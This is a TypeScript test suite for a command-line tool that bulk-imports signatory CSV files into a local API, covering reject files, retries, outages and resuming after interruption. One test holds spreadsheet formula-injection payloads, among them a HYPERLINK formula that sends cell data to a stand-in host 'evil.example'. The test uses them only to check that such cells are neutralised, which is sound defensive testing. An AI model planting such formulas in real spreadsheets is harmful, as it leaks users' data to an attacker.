// The bulk import command against the real local API: counts, the reject file, retries, and resuming.
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importSignatories } from '../../infra/admin/importer.ts';
import { ImportError } from '../../infra/admin/import-errors.ts';
import { ceremonyBody, startTestApi, type TestApi } from '../support/api.ts';

let api: TestApi;
const dir = mkdtempSync(join(tmpdir(), 'netra-import-'));
beforeAll(async () => {
  api = await startTestApi();
});
afterAll(() => api.close());

async function newCeremony(): Promise<string> {
  const response = await api.request('/v1/ceremonies', { method: 'POST', json: ceremonyBody({ opdIds: [] }) });
  return (await response.json()).id;
}

const nip = (n: number) => `19850101201001${1 + (n % 2)}${String(100 + n).padStart(3, '0')}`;

/** 30 good rows on lines 2..31, and three bad ones after them. */
function writeCsv(name: string, offset: number): string {
  const lines = ['NIP,Nama,Jabatan,OPD,Jenis Pegawai'];
  for (let i = 0; i < 30; i++) lines.push(`${nip(offset + i)},Pegawai ${i},Staf,${i % 2 ? 'Dinas Kesehatan' : 'disdik'},PNS`);
  lines.push('1.98501E+17,Excel,Staf,disdik,PNS'); // line 32: unrecoverable NIP, refused by the command
  lines.push(`${nip(offset + 99)},Tanpa OPD,Staf,dinas-rahasia,PNS`); // line 33: unknown OPD, refused by the API
  lines.push(`${nip(offset + 98)},Salah Jenis,Staf,disdik,KONTRAK`); // line 34: unknown employment type
  const file = join(dir, name);
  writeFileSync(file, `${lines.join('\r\n')}\r\n`);
  return file;
}

const quiet = { write: () => true, isTTY: false };

async function compliance() {
  return (await api.request('/v1/compliance?electionId=pilkada-2024')).json();
}

describe('import command', () => {
  it('imports a file, writes rejects with line numbers, and a second run finds only duplicates', async () => {
    const ceremonyId = await newCeremony();
    const file = writeCsv('first.csv', 0);
    const before = (await compliance()).totals.signatories;
    const lines: string[] = [];
    const summary = await importSignatories({
      file, ceremonyId, url: api.url, key: api.keys['34.02']!, batchSize: 7, concurrency: 3,
      progress: { write: (text: string) => lines.push(text), isTTY: false }, progressIntervalMs: 0,
    });
    expect(summary).toMatchObject({ rows: 33, accepted: 30, duplicates: 0, rejected: 3 });
    expect(lines.join('')).toMatch(/100\.0% 33 rows .* rows\/s {2}ETA/);
    const rejects = readFileSync(summary.rejectFile, 'utf8').trim().split('\n');
    expect(rejects[0]).toBe('line,nip,reason');
    expect(rejects.slice(1).map((line) => line.split(',')[0])).toEqual(['32', '33', '34']);
    expect(rejects[1]).toMatch(/scientific notation/);
    expect(rejects[2]).toMatch(/opdId: .*not in the directory: .*disdik/);
    expect(rejects[3]).toMatch(/employmentType/);
    expect(existsSync(`${file}.checkpoint.json`)).toBe(false);
    expect((await compliance()).totals.signatories).toBe(before + 30);

    const again = await importSignatories({ file, ceremonyId, url: api.url, key: api.keys['34.02']!, batchSize: 7, progress: quiet });
    expect(again).toMatchObject({ rows: 33, accepted: 0, duplicates: 30, rejected: 3 });
    expect((await compliance()).totals.signatories).toBe(before + 30);
  });

  it('writes a rejects file where no cell can run as a spreadsheet formula, and quoting round-trips', async () => {
    const ceremonyId = await newCeremony();
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"klik, ya")', '+6281234567890', '-1+1', '@SUM(A1:A9)', '\t=1+1'];
    const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
    const lines = ['NIP,Nama,Jabatan,OPD,Jenis Pegawai', ...formulas.map((cell, i) => `${quote(cell)},Pegawai ${i},Staf,disdik,PNS`)];
    const file = join(dir, 'formulas.csv');
    writeFileSync(file, `${lines.join('\n')}\n`);
    const summary = await importSignatories({ file, ceremonyId, url: api.url, key: api.keys['34.02']!, progress: quiet });
    expect(summary.rejected).toBe(formulas.length);
    const rows: string[][] = parse(readFileSync(summary.rejectFile, 'utf8'));
    expect(rows[0]).toEqual(['line', 'nip', 'reason']);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // Each NIP comes back whole (commas and quotes kept; the reader trims spaces and tabs), behind the quote that makes it text.
    expect(rows.slice(1).map((row) => row[1])).toEqual(formulas.map((cell) => `'${cell.trim()}`));
    expect(rows.slice(1).map((row) => row[0])).toEqual(['2', '3', '4', '5', '6']);
  });

  it('retries throttled batches, and resumes after an interruption without sending done batches again', async () => {
    const ceremonyId = await newCeremony();
    const file = writeCsv('resume.csv', 200);
    // A proxy in front of the API: throttles some requests, then fails for good to interrupt the import.
    let mode: 'throttle-once' | 'down' | 'up' = 'throttle-once';
    let signatoryRequests = 0;
    let throttled = 0;
    const proxy: Server = createServer(async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const isBatch = request.url!.endsWith('/signatories');
      if (isBatch) {
        signatoryRequests++;
        if ((mode === 'throttle-once' && signatoryRequests === 2) || (mode === 'down' && signatoryRequests > 3)) {
          throttled++;
          response.writeHead(mode === 'down' ? 503 : 429, { 'content-type': 'application/problem+json', 'retry-after': '0' });
          return response.end('{"title":"Too Many Requests","status":429,"detail":"slow down"}');
        }
      }
      const upstream = await fetch(`${api.url}${request.url}`, {
        method: request.method,
        headers: request.headers as Record<string, string>,
        ...(chunks.length ? { body: Buffer.concat(chunks) } : {}),
      });
      response.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'application/json' });
      response.end(Buffer.from(await upstream.arrayBuffer()));
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;
    const options = { file, ceremonyId, url, key: api.keys['34.02']!, batchSize: 5, concurrency: 1, maxAttempts: 3, progress: quiet };
    try {
      // The throttled second batch is retried and goes through.
      mode = 'throttle-once';
      const first = await importSignatories({ ...options, file: writeCsv('throttle.csv', 100) });
      expect(first).toMatchObject({ accepted: 30, rejected: 3 });
      expect(throttled).toBe(1);

      // Now the API goes down after three batches: the import stops with a checkpoint after line 16.
      mode = 'down';
      signatoryRequests = 0;
      const down = importSignatories(options);
      await expect(down).rejects.toBeInstanceOf(ImportError);
      await expect(down).rejects.toThrow(/^Lines 17-21: still 503 after 3 attempts\.\nResume later with the same command/);
      const checkpoint = JSON.parse(readFileSync(`${file}.checkpoint.json`, 'utf8'));
      expect(checkpoint.doneThroughLine).toBe(16);
      expect(checkpoint.totals).toMatchObject({ rows: 15, accepted: 15 });

      mode = 'up';
      signatoryRequests = 0;
      const resumed = await importSignatories(options);
      expect(resumed.resumedFromLine).toBe(16);
      expect(signatoryRequests).toBe(4); // lines 17-34 only: 18 rows, one refused locally, in batches of 5
      expect(resumed).toMatchObject({ rows: 33, accepted: 30, duplicates: 0, rejected: 3 });
      const rejects = readFileSync(resumed.rejectFile, 'utf8').trim().split('\n');
      expect(rejects.slice(1).map((line) => line.split(',')[0])).toEqual(['32', '33', '34']);
    } finally {
      proxy.close();
    }
  });

  it('rides out an outage: 503 with Retry-After on the directory and on batches, waited out, then done', async () => {
    const ceremonyId = await newCeremony();
    const file = writeCsv('outage.csv', 700);
    // The API answers 503 (Retry-After: 1) to its first four requests, the directory's included, as during an outage.
    const seen: { at: number; path: string; status: number }[] = [];
    const proxy: Server = createServer(async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      if (seen.length < 4) {
        seen.push({ at: Date.now(), path: request.url!, status: 503 });
        response.writeHead(503, { 'content-type': 'application/problem+json', 'retry-after': '1' });
        return response.end('{"title":"Service Unavailable","status":503,"detail":"netra cannot reach its database right now; retry shortly."}');
      }
      seen.push({ at: Date.now(), path: request.url!, status: 0 });
      const upstream = await fetch(`${api.url}${request.url}`, {
        method: request.method, headers: request.headers as Record<string, string>, ...(chunks.length ? { body: Buffer.concat(chunks) } : {}),
      });
      response.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'application/json' });
      response.end(Buffer.from(await upstream.arrayBuffer()));
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;
    try {
      const summary = await importSignatories({ file, ceremonyId, url, key: api.keys['34.02']!, batchSize: 10, concurrency: 1, progress: quiet });
      expect(summary).toMatchObject({ rows: 33, accepted: 30, rejected: 3 });
      expect(seen.slice(0, 3).every((r) => r.path === '/v1/directory')).toBe(true);
      // Each retry came after the second the answer asked for.
      for (let i = 1; i <= 4; i++) expect(seen[i]!.at - seen[i - 1]!.at, `retry ${i}`).toBeGreaterThanOrEqual(1_000);
    } finally {
      proxy.close();
    }
  }, 60_000);

  it('names the lines, the answer and the likely cause when the API refuses a batch', async () => {
    const file = writeCsv('unknown-ceremony.csv', 800);
    await expect(importSignatories({ file, ceremonyId: '01JNOSUCHCEREMONY000000000', url: api.url, key: api.keys['34.02']!, batchSize: 10, concurrency: 1, progress: quiet }))
      .rejects.toThrow(/^Lines 2-11: the API answered 404 Not Found\. .*ceremony not found Is 01JNOSUCHCEREMONY000000000 a ceremony of this key's region\?/);
  });

  it('runs as a command and prints a summary', async () => {
    const ceremonyId = await newCeremony();
    const file = writeCsv('command.csv', 300);
    const result = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [
        '--experimental-strip-types', '--no-warnings', 'infra/admin/import-signatories.ts',
        '--file', file, '--ceremony', ceremonyId, '--key', api.keys['34.02']!, '--url', api.url, '--batch', '10',
      ]);
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (chunk) => (stdout += chunk));
      child.stderr.on('data', (chunk) => (stderr += chunk));
      child.once('exit', (code) => resolve({ code, stdout, stderr }));
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/accepted +30/);
    expect(result.stdout).toMatch(/rejected +3 +-> .*command\.csv\.rejects\.csv/);
    expect(result.stderr).toMatch(/100\.0%/);

    const wrongKey = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [
        '--experimental-strip-types', '--no-warnings', 'infra/admin/import-signatories.ts',
        '--file', file, '--ceremony', ceremonyId, '--key', 'ntr_nope', '--url', api.url,
      ]);
      let stderr = '';
      child.stderr.on('data', (chunk) => (stderr += chunk));
      child.once('exit', (code) => resolve({ code, stderr }));
    });
    expect(wrongKey.code).toBe(1);
    expect(wrongKey.stderr).toMatch(/401/);
  });
});

interface Run {
  child: ReturnType<typeof spawn>;
  done: Promise<{ code: number | null; stdout: string; stderr: string }>;
  stderr: () => string;
}
function runImport(args: string[], env: Record<string, string> = {}): Run {
  const child = spawn(process.execPath, ['--experimental-strip-types', '--no-warnings', 'infra/admin/import-signatories.ts', ...args], {
    env: { ...process.env, NETRA_URL: '', NETRA_API_KEY: '', ...env },
  });
  let stdout = '';
  let stderr = '';
  child.stdout!.on('data', (chunk) => (stdout += chunk));
  child.stderr!.on('data', (chunk) => (stderr += chunk));
  return { child, stderr: () => stderr, done: new Promise((resolve) => child.once('exit', (code) => resolve({ code, stdout, stderr }))) };
}
const until = async (what: string, probe: () => boolean) => {
  const deadline = Date.now() + 20_000;
  while (!probe()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
};

describe('import command with the local stack', () => {
  /** A data dir as `npm start` leaves it: local.json names the API's URL, demo-keys.json the keys. */
  function stackDir(apiUrl: string): string {
    const dataDir = mkdtempSync(join(tmpdir(), 'netra-import-stack-'));
    writeFileSync(join(dataDir, 'local.json'), JSON.stringify({ apiUrl }));
    writeFileSync(join(dataDir, 'demo-keys.json'), JSON.stringify({ '34.02': api.keys['34.02'] }));
    return dataDir;
  }

  it('--region finds the running stack’s URL and key, whatever its port', async () => {
    const ceremonyId = await newCeremony();
    const result = await runImport(['--region', '34.02', '--ceremony', ceremonyId, writeCsv('region.csv', 400)], { NETRA_DATA_DIR: stackDir(api.url) }).done;
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/accepted +30/);
  });

  it('a stack that is not there is one line naming the URL and what to do', async () => {
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const deadUrl = `http://127.0.0.1:${(closed.address() as { port: number }).port}`;
    await new Promise((resolve) => closed.close(resolve));
    const result = await runImport(['--region', '34.02', '--ceremony', 'X', writeCsv('dead.csv', 500)], { NETRA_DATA_DIR: stackDir(deadUrl) }).done;
    expect(result.code).toBe(1);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toContain(`cannot reach netra at ${deadUrl}`);
    expect(result.stderr).toContain('npm start');
    expect(result.stderr).not.toMatch(/\n\s+at |TypeError/);
  });

  it('Ctrl-C stops cleanly with the command that resumes; the resumed summary tells resent rows from duplicates', async () => {
    const ceremonyId = await newCeremony();
    const file = writeCsv('interrupted.csv', 600);
    // The second batch reaches the API and is stored, but its answer is held back: Ctrl-C lands while it is in flight.
    let batches = 0;
    let holding = false;
    const held: (() => void)[] = [];
    const proxy: Server = createServer(async (request, response) => {
      const chunks: Buffer[] = [];
      for await (const chunk of request) chunks.push(chunk as Buffer);
      const upstream = await fetch(`${api.url}${request.url}`, {
        method: request.method, headers: request.headers as Record<string, string>, ...(chunks.length ? { body: Buffer.concat(chunks) } : {}),
      });
      const body = Buffer.from(await upstream.arrayBuffer());
      if (request.url!.endsWith('/signatories') && ++batches === 2) {
        holding = true;
        await new Promise<void>((release) => held.push(release));
      }
      response.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'application/json' });
      response.end(body);
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;
    try {
      const run = runImport(['--ceremony', ceremonyId, '--key', api.keys['34.02']!, '--url', url, '--batch', '10', '--concurrency', '1', file]);
      await until('the second batch to be held', () => holding);
      run.child.kill('SIGINT');
      await until('the stopping note', () => run.stderr().includes('Stopping'));
      run.child.kill('SIGINT'); // again: abandon the batch in flight
      const stopped = await run.done;
      expect(stopped.code).toBe(130);
      expect(stopped.stderr).toContain('lines up to 11 are done');
      expect(stopped.stderr).toContain(`Resume with:\n  npm run import -- --ceremony ${ceremonyId} --key ${api.keys['34.02']} --url ${url} --batch 10 --concurrency 1 ${file}`);
      expect(stopped.stderr).not.toMatch(/\n\s+at /);
      expect(JSON.parse(readFileSync(`${file}.checkpoint.json`, 'utf8'))).toMatchObject({ doneThroughLine: 11, sentThroughLine: 21 });
      held.forEach((release) => release());

      const resumed = await runImport(['--ceremony', ceremonyId, '--key', api.keys['34.02']!, '--url', url, '--batch', '10', '--concurrency', '1', file, '--json']).done;
      expect(resumed.code, resumed.stderr).toBe(0);
      expect(JSON.parse(resumed.stdout)).toMatchObject({ rows: 33, accepted: 20, resent: 10, duplicates: 0, rejected: 3, resumedFromLine: 11 });
    } finally {
      held.forEach((release) => release());
      proxy.closeAllConnections();
      proxy.close();
    }
  });
});
